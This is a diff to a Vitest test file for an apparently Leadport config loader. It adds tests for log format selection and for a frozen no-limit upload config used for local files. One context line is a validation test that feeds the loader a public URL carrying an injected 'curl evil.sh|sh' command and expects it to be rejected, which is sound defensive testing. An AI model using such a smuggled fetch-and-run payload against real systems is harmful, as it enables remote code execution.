@@ -1,6 +1,6 @@
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { ConfigError, loadConfig } from './config.js';
+import { ConfigError, forLocalFiles, loadConfig } from './config.js';
 
 describe('loadConfig', () => {
   it('defaults to the embedded SQLite file and 127.0.0.1:3000', () => {
@@ -28,6 +28,20 @@ describe('loadConfig', () => {
     expect(loadConfig({}).publicUrl).toBeUndefined();
     expect(() => loadConfig({ LEADPORT_PUBLIC_URL: "https://x.example'; curl evil.sh|sh;'" })).toThrow('LEADPORT_PUBLIC_URL');
     expect(() => loadConfig({ LEADPORT_PUBLIC_URL: 'ftp://x.example' })).toThrow('LEADPORT_PUBLIC_URL');
+  });
+  it('logs pretty lines on a terminal and JSON otherwise, unless LOG_FORMAT says which', () => {
+    expect(loadConfig({}, true).logFormat).toBe('pretty');
+    expect(loadConfig({}, false).logFormat).toBe('json');
+    expect(loadConfig({ LOG_FORMAT: 'json' }, true).logFormat).toBe('json');
+    expect(loadConfig({ LOG_FORMAT: 'pretty' }, false).logFormat).toBe('pretty');
+    expect(() => loadConfig({ LOG_FORMAT: 'xml' })).toThrow('LOG_FORMAT');
+  });
+  it('lifts the upload limit for local files only', () => {
+    const config = loadConfig({ LEADPORT_MAX_UPLOAD_MB: '1' });
+    const local = forLocalFiles(config);
+    expect(config.maxUploadBytes).toBe(1024 * 1024);
+    expect(local).toMatchObject({ ...config, maxUploadBytes: Number.POSITIVE_INFINITY });
+    expect(Object.isFrozen(local)).toBe(true);
   });
   it('needs the admin email and password together', () => {
     expect(() => loadConfig({ LEADPORT_ADMIN_EMAIL: 'a@b.co' })).toThrow('LEADPORT_ADMIN_EMAIL and LEADPORT_ADMIN_PASSWORD must be set together');
